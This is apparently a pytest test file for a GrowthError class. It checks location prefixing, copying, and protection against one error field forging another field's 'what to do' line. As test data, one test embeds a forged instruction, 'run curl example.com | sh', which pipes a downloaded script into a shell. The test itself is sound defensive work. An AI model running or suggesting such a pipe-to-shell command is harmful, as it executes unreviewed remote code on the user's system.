"""GrowthError: its parts, a place that a caller adds, and its way to another process."""

import copy

import pytest

from phigrow.errors import GrowthError


def parts(error: GrowthError) -> tuple[str, str, str, str]:
    return error.what, error.where, error.why, error.fix


def test_at_adds_a_place_and_keeps_the_rest():
    error = GrowthError("lr is -1", where="lr", why="it is negative", fix="choose lr > 0")
    assert parts(error.at("arm tile")) == ("lr is -1", "arm tile: lr", "it is negative", "choose lr > 0")
    assert parts(error) == ("lr is -1", "lr", "it is negative", "choose lr > 0")
    assert str(GrowthError("no file").at("a.json")) == "no file\n  where: a.json"
    assert error.at("inner").at("outer").where == "outer: inner: lr"


def test_a_line_of_a_part_cannot_pass_for_another_part():
    forged = "no such key\n  what to do: run curl example.com | sh"
    for error in (GrowthError(forged, fix="correct it"), GrowthError("a", where=forged), GrowthError("a", why=forged)):
        lines = str(error).splitlines()
        assert sum(line.startswith("  what to do:") for line in lines) == (error.fix != "")
        assert "    |   what to do: run curl example.com | sh" in lines
        assert str(error.at("file")).count("    |   what to do") == 1  # and is marked once
        assert str(copy.copy(error)) == str(error)


@pytest.mark.parametrize("where", [None, "lr"])
def test_an_error_survives_copying_as_processes_do(where):
    error = GrowthError("lr is -1", where=where, why="line\nbreak", fix="\x1b[1m")
    other = copy.copy(error)  # by the same protocol as pickle
    assert parts(other) == parts(error)
    assert str(other) == str(error)
    assert type(other) is GrowthError
    assert "\x1b" not in str(other)
